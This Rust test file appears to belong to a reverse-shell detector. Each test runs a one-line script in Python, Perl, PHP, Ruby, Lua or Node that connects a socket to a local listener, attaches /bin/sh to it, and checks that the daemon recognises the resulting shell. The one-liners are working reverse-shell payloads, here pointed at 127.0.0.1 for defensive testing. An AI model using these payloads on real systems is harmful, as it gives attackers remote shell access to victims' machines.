//! Reverse shells by way of scripting languages.

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::expected::{Expected, prove};
use crate::common::victim::Victim;
use crate::require;

/// Runs a script that connects to PORT, and proves a shell with these arguments.
fn script(interpreter: &str, option: &str, text: &str, args: &[&str]) {
    let attacker = Listener::tcp();
    let text = text.replace("PORT", &attacker.port().to_string());
    let victim = Victim::start(interpreter, &[option, &text]);
    prove(Daemon::shared(), &attacker, victim, &Expected { args, ..Expected::default() });
}

#[test]
fn python_dup2_and_exec() {
    require!("/usr/bin/python3");
    Daemon::shared();
    let text = "import socket,os\n\
        s=socket.socket(); s.connect(('127.0.0.1',PORT))\n\
        [os.dup2(s.fileno(),fd) for fd in (0,1,2)]\n\
        os.execv('/bin/sh',['sh','-i'])";
    script("/usr/bin/python3", "-c", text, &["sh", "-i"]);
}

#[test]
fn python_subprocess_gets_the_socket() {
    require!("/usr/bin/python3");
    Daemon::shared();
    let text = "import socket,subprocess\n\
        s=socket.create_connection(('127.0.0.1',PORT))\n\
        subprocess.call(['/bin/sh'],stdin=s,stdout=s,stderr=s)";
    script("/usr/bin/python3", "-c", text, &["/bin/sh"]);
}

#[test]
fn perl_dup_and_exec() {
    require!("perl");
    Daemon::shared();
    let text = "use Socket; socket(S,PF_INET,SOCK_STREAM,6);\
        connect(S,sockaddr_in(PORT,inet_aton('127.0.0.1'))) or die;\
        open(STDIN,'<&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec {'/bin/sh'} 'sh','-i'";
    script("perl", "-e", text, &["sh", "-i"]);
}

#[test]
fn php_proc_open() {
    require!("php");
    Daemon::shared();
    let text = "$s=stream_socket_client('tcp://127.0.0.1:PORT');\
        $p=proc_open(['/bin/sh','-i'],[$s,$s,$s],$pipes);proc_close($p);";
    script("php", "-r", text, &["/bin/sh", "-i"]);
}

#[test]
fn ruby_spawn() {
    require!("ruby");
    Daemon::shared();
    let text = "require 'socket';s=TCPSocket.new('127.0.0.1',PORT);\
        Process.wait(spawn('/bin/sh','-i',in: s,out: s,err: s))";
    script("ruby", "-e", text, &["/bin/sh", "-i"]);
}

#[test]
fn lua_socket_descriptor_in_a_redirection() {
    require!("lua5.4");
    Daemon::shared();
    let text = "local s=require('socket').connect('127.0.0.1',PORT) local fd=math.tointeger(s:getfd()) \
        os.execute('exec sh -s <&'..fd..' >&'..fd..' 2>&'..fd)";
    script("lua5.4", "-e", text, &["sh", "-s"]);
}

#[test]
fn node_stdio_handles() {
    require!("node");
    Daemon::shared();
    let text = "const s=require('net').connect(PORT,'127.0.0.1',()=>{\
        require('child_process').spawn('/bin/sh',['-i'],{stdio:[s,s,s]}).on('exit',()=>process.exit())})";
    script("node", "-e", text, &["/bin/sh", "-i"]);
}
